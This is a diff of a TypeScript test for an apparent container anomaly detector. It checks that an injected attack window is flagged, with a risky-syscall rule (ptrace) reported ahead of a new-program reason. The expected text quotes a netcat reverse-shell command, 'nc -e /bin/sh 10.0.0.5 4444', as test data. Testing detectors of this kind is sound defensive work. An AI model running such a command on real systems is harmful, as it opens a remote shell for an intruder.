@@ -58,8 +58,11 @@ test('attack capture: the injected window of web is flagged, its top reason the 
   const flagged = rows.filter((x) => x.anomalous);
   assert.deepEqual(flagged.map((x) => [x.container, x.window_start.slice(0, 19)]), [['web', ATTACK_START]]);
   const top = flagged[0]!.reasons;
-  assert.equal(top[0]!.feature, 'new_programs');
-  assert.match(top[0]!.text, /^new program \/bin\/nc started with argv `nc -e \/bin\/sh 10\.0\.0\.5 4444`/);
+  // the ptrace of the attack fires the risky-syscall rule, reported first and as a rule
+  assert.equal(top[0]!.feature, 'rule:new_risky_syscall');
+  assert.match(top[0]!.text, /^rule: risky syscall never seen in baseline: ptrace called 12 times/);
+  assert.equal(top[1]!.feature, 'new_programs');
+  assert.match(top[1]!.text, /^new program \/bin\/nc started with argv `nc -e \/bin\/sh 10\.0\.0\.5 4444`/);
   const texts = top.map((x) => x.text).join('\n');
   assert.match(texts, /ptrace called 12 times/);
   assert.match(texts, /never seen in baseline/);
